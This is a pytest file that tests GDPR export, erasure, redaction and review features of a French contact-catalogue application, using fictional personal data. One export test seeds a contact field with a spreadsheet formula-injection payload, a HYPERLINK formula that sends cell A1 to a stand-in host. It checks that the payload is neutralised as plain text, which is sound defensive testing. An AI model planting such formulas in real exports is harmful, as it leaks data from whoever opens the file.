"""RGPD: export everything about a person, erase them everywhere, contacts to review."""
from __future__ import annotations

import json
import os
import stat
from datetime import datetime, timezone
from pathlib import Path

import openpyxl
import pytest

from eco_desktop import check as checking
from eco_desktop.catalogue import privacy
from eco_desktop.errors import UserError
from eco_desktop.filter import Filter
from eco_desktop.catalogue import Catalogue

PERSON = {"civility": "Mme", "first_name": "Zéphyrine", "last_name": "Quillebeuf", "role": "Directrice R&D",
          "email": "z.quillebeuf@exemple.fr", "phone": "01 23 45 67 89", "legal_basis": "consent",
          "basis_date": "2023-04-01", "notes": "rencontrée au salon"}
# The first name alone is shared with a namesake who stays; everything else must go.
TRACES = [b"quillebeuf", "zéphyrine quillebeuf".encode(), b"zephyrine quillebeuf", b"z.quillebeuf@exemple.fr",
          b"01 23 45 67 89"]


@pytest.fixture
def person(catalogue):
    """A contact with history (added, edited, moved), an exchange and a colleague's note naming her."""
    ids = catalogue.actor_ids()
    first, second = ids[0], ids[1]
    contact_id = catalogue.add_contact(first, PERSON)
    catalogue.update_contact(contact_id, {"role": "Directrice générale"})
    catalogue.update_contact(contact_id, {"actor_id": second})
    catalogue.add_exchange(second, date="2024-02-01", kind="meeting",
                           text="Rendez-vous avec Zéphyrine Quillebeuf : projet de thérapie génique.")
    colleague = catalogue.add_contact(second, {"first_name": "Paul", "last_name": "Durand",
                                               "notes": "remplace ZEPHYRINE QUILLEBEUF en juillet"})
    # A namesake elsewhere keeps their name; only free text about our person is touched.
    namesake = catalogue.add_contact(ids[2], {"first_name": "Zéphyrine", "last_name": "Martin"})
    return {"id": contact_id, "actor_id": second, "colleague": colleague, "namesake": namesake}


def file_bytes(path: Path) -> bytes:
    data = b""
    for suffix in ("", "-wal", "-journal"):
        extra = Path(str(path) + suffix)
        if extra.exists():
            data += extra.read_bytes()
    return data.lower()


def test_export_person_holds_everything_including_history(catalogue, person, tmp_path):
    json_path, xlsx_path = tmp_path / "personne.json", tmp_path / "personne.xlsx"
    record = privacy.export_person(catalogue, person["id"], json_path, xlsx_path)
    data = json.loads(json_path.read_text(encoding="utf-8"))
    assert data == json.loads(json.dumps(record, ensure_ascii=False))
    assert data["personne"]["last_name"] == "Quillebeuf"
    assert data["personne"]["email"] == PERSON["email"]
    assert data["personne"]["base_légale_libellé"] == "Consentement"
    assert data["organisation"]["id"] == person["actor_id"]
    actions = [h["action"] for h in data["historique"]]
    assert "Ajouter le contact « Zéphyrine Quillebeuf »" in actions
    assert [h["opération"] for h in data["historique"] if h["table"] == "contacts"][:3] == ["insert", "update", "update"]
    mentioned = {(m["table"], m["champ"]) for m in data["mentions"]}
    assert mentioned == {("exchanges", "text"), ("contacts", "notes")}
    wb = openpyxl.load_workbook(xlsx_path)
    assert wb.sheetnames == ["Personne", "Mentions", "Historique"]
    values = [c.value for row in wb["Personne"].iter_rows() for c in row]
    assert "Quillebeuf" in values and "z.quillebeuf@exemple.fr" in values
    assert wb["Historique"].max_row == len(data["historique"]) + 1


def test_erase_person_leaves_no_trace_in_the_file(catalogue, person):
    path = catalogue.path
    assert all(t in file_bytes(path) for t in TRACES[:2])  # before: the name is in the file
    result = privacy.erase_person(catalogue, person["id"])
    assert result.name == "Zéphyrine Quillebeuf"
    assert result.purged and result.history_deleted == 3 and result.mentions_redacted == 2
    assert catalogue.get_contact(person["id"]) is None
    # the rest of the catalogue is intact
    colleague = catalogue.get_contact(person["colleague"])
    assert colleague["last_name"] == "Durand"
    assert colleague["notes"] == "remplace [personne effacée] en juillet"
    assert catalogue.get_contact(person["namesake"])["first_name"] == "Zéphyrine"
    assert "[personne effacée]" in catalogue.exchanges(person["actor_id"])[0]["text"]
    assert catalogue.count(Filter(text="quillebeuf")) == 0
    assert catalogue.count(Filter(text="durand")) == 1
    assert checking.check(path).ok
    labels = [b["label"] for b in catalogue.history(limit=1000)]
    assert not any("Quillebeuf" in label for label in labels)
    assert "Ajouter le contact « Paul Durand »" in labels
    catalogue.close()
    data = file_bytes(path)
    for trace in TRACES:
        assert trace not in data, trace
    assert "zéphyrine martin".encode() in data               # the namesake is still there


def test_namesake_is_kept_but_person_gone(catalogue, person):
    privacy.erase_person(catalogue, person["id"])
    names = [(c["first_name"], c["last_name"]) for c in catalogue.contacts()]
    assert ("Zéphyrine", "Martin") in names
    assert not any(last == "Quillebeuf" for _first, last in names)


def test_undo_after_erasure_never_brings_the_person_back(catalogue, person):
    privacy.erase_person(catalogue, person["id"])
    while catalogue.undo() is not None:
        pass
    while catalogue.redo() is not None:
        pass
    assert not any(c["last_name"] == "Quillebeuf" for c in catalogue.contacts())
    assert checking.check(catalogue.path).ok


def test_erase_refused_when_read_only(catalogue_path):
    with Catalogue.open(catalogue_path) as cat:
        contact_id = cat.add_contact(cat.actor_ids()[0], PERSON)
    with Catalogue.open(catalogue_path, read_only=True) as cat:
        with pytest.raises(UserError, match="lecture seule"):
            privacy.erase_person(cat, contact_id)
        assert cat.get_contact(contact_id) is not None


def test_unknown_contact(catalogue, tmp_path):
    with pytest.raises(UserError, match="n'existe plus"):
        privacy.erase_person(catalogue, 987654)
    with pytest.raises(UserError, match="n'existe plus"):
        privacy.export_person(catalogue, 987654, tmp_path / "a.json", None)


def test_contacts_to_review(catalogue):
    aid = catalogue.actor_ids()[0]
    old = catalogue.add_contact(aid, {"last_name": "Ancien"})
    recent = catalogue.add_contact(aid, {"last_name": "Récent"})
    catalogue.conn.execute("UPDATE contacts SET updated_at = '2020-01-15T10:00:00+00:00' WHERE id = ?", (old,))
    catalogue.conn.execute("UPDATE contacts SET updated_at = '2023-06-01T10:00:00+00:00' WHERE id = ?", (recent,))
    now = datetime(2024, 6, 1, tzinfo=timezone.utc)
    review = privacy.contacts_to_review(catalogue, now=now)
    assert [c["id"] for c in review] == [old]
    assert review[0]["actor_name"] == catalogue.get_actor(aid)["name"]
    assert [c["id"] for c in privacy.contacts_to_review(catalogue, years=0, now=now)] == [old, recent]


# ---------------------------------------------------------------------------- issue #15, points 1 and 2

def snapshot(conn) -> dict[tuple[str, object], dict]:
    """Every row of every table (the full-text shadow tables aside), by (table, key)."""
    out = {}
    tables = [r[0] for r in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' "
                                         "AND name NOT LIKE 'actors_fts%' AND name NOT LIKE 'sqlite_%'")]
    for table in tables:
        for row in conn.execute(f"SELECT * FROM [{table}]"):
            row = dict(row)
            key = row.get("id", tuple(row.values()))
            out[(table, key)] = row
    return out


def changed_cells(before: dict, after: dict) -> tuple[set, set, set]:
    """(cells changed as (table, id, column), rows deleted, rows added)."""
    cells = {(t, k, c) for (t, k), row in before.items() if (t, k) in after
             for c, v in row.items() if after[(t, k)][c] != v}
    return cells, set(before) - set(after), set(after) - set(before)


def everything_except_derived(cells, deleted, added):
    return ({c for c in cells if c[0] != "actor_values"}, {d for d in deleted if d[0] != "actor_values"},
            {a for a in added if a[0] != "actor_values"})


def test_a_contact_named_paris_erases_no_commune_and_no_organisation(catalogue):
    """Issue #15: erasing « Paris » changed 41 values in 17 rows (communes, « Paris Biotech Santé »)."""
    actor = catalogue.actor_ids()[0]
    contact_id = catalogue.add_contact(actor, {"last_name": "Paris", "notes": "vu à Paris"})
    catalogue.add_exchange(actor, date="2024-01-01", kind="note", text="Réunion à Paris avec Paris Biotech Santé")
    before = snapshot(catalogue.conn)
    plan = privacy.preview_erasure(catalogue, contact_id)
    assert {(p.table, p.field) for p in plan.places} <= {("contacts", "*"), ("history_changes", "*"),
                                                         ("history_batches", "*")}
    result = privacy.erase_person(catalogue, contact_id)
    cells, deleted, added = everything_except_derived(*changed_cells(before, snapshot(catalogue.conn)))
    assert cells == set() and added == set()
    assert ("contacts", contact_id) in deleted
    assert {t for t, _k in deleted} <= {"contacts", "history_changes", "history_batches"}
    assert result.mentions_redacted == 0
    assert catalogue.count(Filter(text="Paris 13e")) > 0
    assert any(a["name"] == "Paris Biotech Santé" for a in catalogue.actors())
    assert checking.check(catalogue.path).ok


def test_a_first_name_alone_never_rewrites_slugs_or_words(catalogue):
    """Issue #15: « Ana » rewrote the slug analytics_qc and « émanant »."""
    ids = catalogue.actor_ids()
    catalogue.update_actor(ids[1], {"description": "Projet émanant d'Ana, analytique", "tags": ["ana", "analyse"]})
    contact_id = catalogue.add_contact(ids[0], {"first_name": "Ana"})
    vocab_before = catalogue.conn.execute("SELECT * FROM vocabulary ORDER BY id").fetchall()
    before = snapshot(catalogue.conn)
    privacy.erase_person(catalogue, contact_id)
    cells, _deleted, added = everything_except_derived(*changed_cells(before, snapshot(catalogue.conn)))
    assert cells == set() and added == set()
    assert [tuple(r) for r in catalogue.conn.execute("SELECT * FROM vocabulary ORDER BY id")] == \
        [tuple(r) for r in vocab_before]
    assert catalogue.get_actor(ids[1])["description"] == "Projet émanant d'Ana, analytique"
    assert "analytics_qc" in {slug for a in catalogue.actors() for slug in a["activities"]}


def test_the_organisation_keeps_its_switchboard_and_generic_address(catalogue):
    """Issue #15: a contact sharing the switchboard erased the organisation's phone and e-mail."""
    actor = catalogue.actor_ids()[0]
    catalogue.update_actor(actor, {"phone": "01 23 45 67 89", "email": "contact@organisation.fr",
                                   "description": "Standard : 01 23 45 67 89, contact@organisation.fr"})
    contact_id = catalogue.add_contact(actor, {"first_name": "Zéphyrine", "last_name": "Quillebeuf",
                                               "phone": "0123456789", "email": "Contact@Organisation.fr "})
    plan = privacy.preview_erasure(catalogue, contact_id)
    assert {(k.actor_id, k.field) for k in plan.kept} == {(actor, "phone"), (actor, "email")}
    assert not [p for p in plan.places if p.table == "actors"]
    result = privacy.erase_person(catalogue, contact_id)
    kept = catalogue.get_actor(actor)
    assert (kept["phone"], kept["email"]) == ("01 23 45 67 89", "contact@organisation.fr")
    assert kept["description"] == "Standard : 01 23 45 67 89, contact@organisation.fr"
    assert "est aussi celui de l'organisation" in result.message()
    assert "est aussi celle de l'organisation" in result.message()


@pytest.fixture
def everywhere(catalogue, person):
    """The person named in every form the catalogue can hold them."""
    ids = catalogue.actor_ids()
    other = ids[3]
    catalogue.add_exchange(other, date="2024-03-01", kind="call",
                           text="Appel de Mme Quillebeuf ; la rappeler au 0123456789 ou au +33 1 23 45 67 89.")
    catalogue.update_actor(other, {"tags": ["Zéphyrine Quillebeuf", "suivi"],
                                   "source": "Fiche remplie par z.quillebeuf@exemple.fr"})
    call_id = catalogue.create_call("Appel Biothérapies 2025")
    catalogue.add_to_call(call_id, [other])
    catalogue.set_note(call_id, other, "Dossier porté par Quillebeuf Zéphyrine")
    catalogue.save_view("Suivi de Zéphyrine Quillebeuf", Filter(text="zéphyrine quillebeuf"))
    return {**person, "other": other, "call": call_id}


TRACES_EVERYWHERE = [*TRACES, b"0123456789", b"+33123456789", b"+33 1 23 45 67 89", b"mme quillebeuf"]


def test_the_person_is_found_and_erased_in_every_form(catalogue, everywhere):
    """Issue #15: « Mme Quillebeuf », « 0123456789 », a tag, a call note, a saved view survived."""
    path = catalogue.path
    plan = privacy.preview_erasure(catalogue, everywhere["id"])
    places = {(p.table, p.field) for p in plan.places}
    assert {("exchanges", "text"), ("actors", "tags"), ("actors", "source"), ("call_entries", "note"),
            ("saved_views", "name"), ("saved_views", "filter"), ("history_changes", "after"),
            ("history_batches", "label"), ("contacts", "*"), ("history_changes", "*")} <= places
    before = snapshot(catalogue.conn)
    result = privacy.erase_person(catalogue, everywhere["id"])
    assert result.purged, result.purge_reason
    # exactly the previewed cells changed, and the rows previewed as deleted are gone
    cells, deleted, added = everything_except_derived(*changed_cells(before, snapshot(catalogue.conn)))
    assert cells == {(p.table, p.row_id, p.field) for p in plan.places if p.field != "*"}
    assert deleted == {(p.table, p.row_id) for p in plan.places if p.field == "*"}
    assert added == set()
    exchange = [e for e in catalogue.exchanges(everywhere["other"])][0]["text"]
    assert exchange == "Appel de [personne effacée] ; la rappeler au [personne effacée] ou au [personne effacée]."
    other = catalogue.get_actor(everywhere["other"])
    assert other["tags"] == ["suivi"]
    assert other["source"] == "Fiche remplie par [personne effacée]"
    assert catalogue.shortlist(everywhere["call"])[0]["note"] == "Dossier porté par [personne effacée]"
    assert [v["name"] for v in catalogue.saved_views()] == ["Suivi de [personne effacée]"]
    assert checking.check(path).ok
    catalogue.close()
    with Catalogue.open(path) as reopened:
        reopened.conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        data = file_bytes(path)
    for trace in TRACES_EVERYWHERE:
        assert trace not in data, trace


def test_no_byte_of_the_person_is_left_in_the_file_or_its_wal(catalogue, everywhere):
    path = catalogue.path
    assert b"quillebeuf" in file_bytes(path)
    result = privacy.erase_person(catalogue, everywhere["id"])
    assert result.purged
    # read while the catalogue is still open: the -wal holds nothing either
    assert Path(str(path) + "-wal").stat().st_size == 0 if Path(str(path) + "-wal").exists() else True
    data = file_bytes(path)
    for trace in TRACES_EVERYWHERE:
        assert trace not in data, trace


def test_a_reader_open_makes_purged_false_then_the_retry_succeeds(catalogue, person):
    """Issue #15: with another connection reading, `purged` was False and the -wal held the person."""
    import sqlite3
    path = catalogue.path
    reader = sqlite3.connect(str(path))
    reader.execute("BEGIN")
    reader.execute("SELECT count(*) FROM contacts").fetchone()
    result = privacy.erase_person(catalogue, person["id"])
    assert not result.purged
    assert "un autre programme lit" in result.purge_reason
    message = result.message()
    assert "n'a pas pu être réécrit" in message and "Réessayez" in message
    assert catalogue.get_contact(person["id"]) is None  # the erasure itself is committed
    reader.rollback()
    reader.close()
    retry = privacy.purge_file(catalogue)
    assert retry.ok, retry.reason
    data = file_bytes(path)
    for trace in TRACES:
        assert trace not in data, trace


def test_a_full_disk_during_the_rewrite_is_said_in_french(catalogue, person, monkeypatch):
    import sqlite3

    from eco_desktop.catalogue.privacy import purge as erasing
    real = erasing._execute

    def full(conn, sql):
        if sql == "VACUUM":
            raise sqlite3.OperationalError("database or disk is full")
        return real(conn, sql)
    monkeypatch.setattr(erasing, "_execute", full)
    result = privacy.erase_person(catalogue, person["id"])
    assert not result.purged
    assert result.purge_reason.startswith("le disque est plein")
    assert "disk" not in result.message()
    monkeypatch.setattr(erasing, "_execute", real)
    assert privacy.purge_file(catalogue).ok


def test_backups_holding_the_person_are_named_and_erased(catalogue, person, tmp_path, monkeypatch):
    from eco_desktop import backup, paths
    monkeypatch.setattr(paths, "user_data_dir", lambda: tmp_path / "userdata")
    copy = backup.backup_now(catalogue)
    contact = catalogue.get_contact(person["id"])
    holding = privacy.backups_holding(catalogue.path, contact)
    assert [h.path for h in holding] == [copy] and holding[0].places > 0
    assert copy.name in holding[0].sentence()
    assert b"quillebeuf" in copy.read_bytes().lower()
    result = privacy.erase_person(catalogue, person["id"], backups=True)
    assert result.backups == [(copy, "")]
    assert privacy.backups_holding(catalogue.path, contact) == []
    data = copy.read_bytes().lower()
    for trace in TRACES:
        assert trace not in data, trace
    assert backup.verify_backup(copy) == catalogue.total()
    assert not list(copy.parent.glob(".~*"))


def test_the_preview_is_refused_when_the_catalogue_changed_since(catalogue, person):
    plan = privacy.preview_erasure(catalogue, person["id"])
    catalogue.add_exchange(person["actor_id"], date="2024-05-01", kind="note", text="Zéphyrine Quillebeuf rappelle")
    with pytest.raises(UserError, match="a changé depuis l'aperçu"):
        privacy.erase_person(catalogue, person["id"], expected=plan)
    assert catalogue.get_contact(person["id"]) is not None
    assert privacy.erase_person(catalogue, person["id"], expected=privacy.preview_erasure(catalogue, person["id"]))


def test_every_text_column_of_the_schema_is_classified(catalogue):
    """A new column must be declared free text (searched) or never touched, with a reason."""
    from eco_desktop.catalogue.privacy.plan import FREE_TEXT, NEVER_TOUCHED
    conn = catalogue.conn
    for (table,) in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%'"):
        base = "actors_fts" if table.startswith("actors_fts") else table
        if NEVER_TOUCHED.get(base) == "*":
            continue
        for column in conn.execute(f"PRAGMA table_info([{table}])"):
            if (column[2] or "").upper() != "TEXT":
                continue
            assert column[1] in FREE_TEXT.get(table, ()) or column[1] in NEVER_TOUCHED.get(table, ()), \
                (table, column[1])


def test_the_person_export_writes_text_cells_only(catalogue, tmp_path):
    """Issue #15: record text became live formulas; a control character raised IllegalCharacterError."""
    actor = catalogue.actor_ids()[0]
    contact_id = catalogue.add_contact(actor, {
        "first_name": "Zéphyrine", "last_name": "Quillebeuf", "role": '=HYPERLINK("http://x.example/"&A1,"clic")',
        "notes": "sonnerie\x07 puis \x1b fin", "email": "@SUM(1+1)"})
    json_path, xlsx_path = tmp_path / "p.json", tmp_path / "p.xlsx"
    privacy.export_person(catalogue, contact_id, json_path, xlsx_path)
    wb = openpyxl.load_workbook(xlsx_path)
    cells = {c.value: c for row in wb["Personne"].iter_rows() for c in row}
    formula = cells['=HYPERLINK("http://x.example/"&A1,"clic")']
    assert formula.data_type == "s"
    assert cells["@SUM(1+1)"].data_type == "s"
    assert "sonnerie puis  fin" in cells
    assert json.loads(json_path.read_text(encoding="utf-8"))["personne"]["notes"] == "sonnerie\x07 puis \x1b fin"
    assert not list(tmp_path.glob(".~*"))


def test_the_person_export_says_write_failures_in_french(catalogue, tmp_path):
    contact_id = catalogue.add_contact(catalogue.actor_ids()[0], {"last_name": "Quillebeuf"})
    folder = tmp_path / "dossier.xlsx"
    folder.mkdir()
    with pytest.raises(UserError, match="c'est le nom d'un dossier"):
        privacy.export_person(catalogue, contact_id, tmp_path / "p.json", folder)
    assert not (tmp_path / "p.json").exists()
    with pytest.raises(UserError, match="n'existe pas"):
        privacy.export_person(catalogue, contact_id, tmp_path / "absent" / "p.json", None)


def test_the_person_export_follows_the_users_umask(catalogue, tmp_path):
    contact_id = catalogue.add_contact(catalogue.actor_ids()[0], {"last_name": "Quillebeuf"})
    old = os.umask(0o022)
    try:
        privacy.export_person(catalogue, contact_id, tmp_path / "p.json", tmp_path / "p.xlsx")
    finally:
        os.umask(old)
    # mkstemp gave 0600: a colleague could not open the file on a shared folder.
    assert {stat.S_IMODE(p.stat().st_mode) for p in (tmp_path / "p.json", tmp_path / "p.xlsx")} == {0o644}


def test_matching_whole_words_phrases_and_numbers():
    person = privacy.Person({"civility": "Mme", "first_name": "Zéphyrine", "last_name": "Quillebeuf",
                             "email": "z.quillebeuf@exemple.fr", "phone": "01 23 45 67 89"})
    redact = person.redact
    assert redact("Vu ZEPHYRINE  QUILLEBEUF hier") == "Vu [personne effacée] hier"
    assert redact("Quillebeuf, Zéphyrine") == "[personne effacée]"
    assert redact("Madame Quillebeuf et M. Quillebeuf") == "[personne effacée] et M. Quillebeuf"
    assert redact("Zéphyrine Quillebeuf-Martin") == "Zéphyrine Quillebeuf-Martin"   # someone else
    assert redact("Quillebeuf seul") == "Quillebeuf seul"                            # one word: never
    assert redact("Zéphyrine\nQuillebeuf") == "Zéphyrine\nQuillebeuf"                # not one phrase
    assert redact("écrire à Z.Quillebeuf@Exemple.fr.") == "écrire à [personne effacée]."
    assert redact("xz.quillebeuf@exemple.fr") == "xz.quillebeuf@exemple.fr"
    assert redact("z.quillebeuf@exemple.fr.evil") == "z.quillebeuf@exemple.fr.evil"
    for phone in ("0123456789", "01.23.45.67.89", "+33 1 23 45 67 89", "+33 (0)1 23 45 67 89", "0033123456789"):
        assert redact(f"tél. {phone} !") == "tél. [personne effacée] !", phone
    assert redact("01234567890") == "01234567890"
    assert redact("n° 123456789") == "n° 123456789"


# ---------------------------------------------------------------------------- the command

def test_cli_erase_previews_then_erases(catalogue_path, tmp_path):
    from cli_helpers import run_cli
    with Catalogue.open(catalogue_path) as cat:
        actor = cat.actor_ids()[0]
        contact_id = cat.add_contact(actor, PERSON)
        cat.add_exchange(actor, date="2024-01-01", kind="note", text="Appel de Mme Quillebeuf")
    preview = run_cli(["erase", contact_id, "--preview", "--db", catalogue_path], home=tmp_path)
    assert "Effacement de « Zéphyrine Quillebeuf »" in preview.stdout
    assert "Échange du 2024-01-01" in preview.stdout and "[personne effacée]" in preview.stdout
    refused = run_cli(["erase", contact_id, "--db", catalogue_path], home=tmp_path, expect=1)
    assert "rien n'a été effacé" in refused.stderr
    with Catalogue.open(catalogue_path) as cat:
        assert cat.get_contact(contact_id) is not None
    done = run_cli(["erase", contact_id, "--yes", "--db", catalogue_path], home=tmp_path)
    assert "a été effacé(e) du catalogue" in done.stdout
    assert b"quillebeuf" not in file_bytes(catalogue_path)
    gone = run_cli(["erase", contact_id, "--yes", "--db", catalogue_path], home=tmp_path, expect=1)
    assert f"Aucun contact n'a l'identifiant {contact_id}." in gone.stderr
    word = run_cli(["erase", "douze", "--db", catalogue_path], home=tmp_path, expect=2)
    assert "doit être un nombre entier" in word.stderr
    huge = run_cli(["erase", "99999999999999999999999", "--db", catalogue_path], home=tmp_path, expect=1)
    assert "Aucun contact" in huge.stderr


def test_cli_erase_says_when_the_file_could_not_be_rewritten(catalogue_path, tmp_path):
    import sqlite3

    from cli_helpers import run_cli
    with Catalogue.open(catalogue_path) as cat:
        contact_id = cat.add_contact(cat.actor_ids()[0], PERSON)
    reader = sqlite3.connect(str(catalogue_path))
    reader.execute("BEGIN")
    reader.execute("SELECT count(*) FROM contacts").fetchone()
    try:
        proc = run_cli(["erase", contact_id, "--yes", "--db", catalogue_path], home=tmp_path, expect=1)
    finally:
        reader.rollback()
        reader.close()
    assert "n'a pas pu être réécrit" in proc.stderr and "erase --compact" in proc.stderr
    retry = run_cli(["erase", "--compact", "--db", catalogue_path], home=tmp_path)
    assert "Fichier réécrit" in retry.stdout
    assert b"quillebeuf" not in file_bytes(catalogue_path)


def test_views_renamed_alike_keep_unique_names(catalogue):
    contact_id = catalogue.add_contact(catalogue.actor_ids()[0], {"first_name": "Zéphyrine", "last_name": "Quillebeuf"})
    catalogue.save_view("Zéphyrine Quillebeuf", Filter(text="x"))
    catalogue.save_view("Quillebeuf Zéphyrine", Filter(text="y"))
    plan = privacy.preview_erasure(catalogue, contact_id)
    assert sorted(p.after for p in plan.places if p.table == "saved_views") == \
        ["[personne effacée]", "[personne effacée] (2)"]
    privacy.erase_person(catalogue, contact_id, expected=plan)
    assert sorted(v["name"] for v in catalogue.saved_views()) == ["[personne effacée]", "[personne effacée] (2)"]


def test_an_unreadable_backup_is_reported_not_skipped(catalogue, person, tmp_path, monkeypatch):
    from eco_desktop import backup, paths
    monkeypatch.setattr(paths, "user_data_dir", lambda: tmp_path / "userdata")
    copy = backup.backup_now(catalogue)
    copy.write_bytes(b"SQLite format 3\x00" + b"\xff" * 4000)
    holding = privacy.backups_holding(catalogue.path, catalogue.get_contact(person["id"]))
    assert [h.path for h in holding] == [copy]
    assert "illisible" in holding[0].sentence() and "peut encore contenir" in holding[0].sentence()
    result = privacy.erase_person(catalogue, person["id"], backups=True)
    assert result.backups and result.backups[0][0] == copy and "illisible" in result.backups[0][1]
